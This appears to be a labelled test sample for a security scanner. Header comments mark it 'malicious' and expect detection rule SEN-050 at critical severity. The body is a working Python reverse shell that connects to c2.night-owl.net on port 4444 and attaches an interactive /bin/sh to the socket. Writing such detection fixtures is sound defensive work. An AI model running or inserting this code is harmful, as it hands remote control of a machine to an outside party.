# does: connects a shell to a host outside
# kind: malicious
# expect: SEN-050 critical high
# fast: yes
import os
import socket

stream = socket.create_connection(("c2.night-owl.net", 4444))
for descriptor in (0, 1, 2):
    os.dup2(stream.fileno(), descriptor)
os.execv("/bin/sh", ["sh", "-i"])
